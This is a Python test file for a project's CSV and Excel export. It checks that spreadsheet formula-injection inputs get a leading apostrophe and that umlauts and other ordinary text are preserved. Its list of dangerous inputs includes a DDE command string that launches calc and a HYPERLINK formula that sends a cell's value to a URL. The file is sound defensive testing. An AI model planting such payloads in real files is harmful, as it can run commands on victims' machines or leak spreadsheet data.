"""Files for spreadsheets: what a person typed is never run, and umlauts arrive."""

import csv
import io

import openpyxl
import pytest

from helpathon.insights.tables import WRITERS, defused, write_csv, write_xlsx

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"hier")',
    "+49 231 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "=cmd|'/C calc'!A0",
    "|calc",
    "%0A=1",
    "＝1+1",
]
HARMLESS = ["Jürgen Müller", "Anna-Lena", "a=b", "50 % Rabatt", "مريم", "", "'schon'"]


def csv_of(*rows):
    file = io.BytesIO()
    write_csv(file, ["Kopf"], rows)
    return file.getvalue()


def sheet_of(*rows):
    file = io.BytesIO()
    write_xlsx(file, ["Kopf"], rows)
    return openpyxl.load_workbook(io.BytesIO(file.getvalue())).active


@pytest.mark.parametrize("typed", DANGEROUS)
def test_what_a_spreadsheet_would_run_is_text_in_both(typed):
    assert defused(typed) == f"'{typed}"
    (cell,) = list(csv.reader(io.StringIO(csv_of([typed]).decode("utf-8-sig"), newline=""), delimiter=";"))[1]
    assert cell == f"'{typed}"
    found = sheet_of([typed])["A2"]
    assert found.data_type == "s"
    assert found.value.startswith("'")


@pytest.mark.parametrize("typed", HARMLESS)
def test_other_texts_stay_as_they_are(typed):
    assert defused(typed) == typed
    assert csv_of([typed]).decode("utf-8-sig").splitlines()[1] == (typed or '""')
    assert (sheet_of([typed])["A2"].value or "") == typed


def test_csv_is_what_a_german_excel_opens_by_a_double_click():
    written = csv_of(["Ä; B", 3, None])
    assert written == b'\xef\xbb\xbfKopf\r\n"\xc3\x84; B";3;\r\n'


def test_our_own_numbers_stay_numbers():
    assert defused(-3) == -3
    assert sheet_of([-3])["A2"].value == -3


def test_texts_that_look_like_numbers_or_links_stay_texts():
    sheet = sheet_of(["007"], ["http://example.org"])
    assert sheet["A2"].value == "007"
    assert sheet["A3"].hyperlink is None


def test_a_name_of_many_characters_and_lines_does_no_harm():
    long = "Ö" * 32_000
    assert sheet_of([long])["A2"].value == long
    assert csv_of(['Zeile 1\n"Zeile 2"']).count(b'""Zeile 2""') == 1


def test_there_are_two_kinds_of_files():
    assert sorted(WRITERS) == ["csv", "xlsx"]
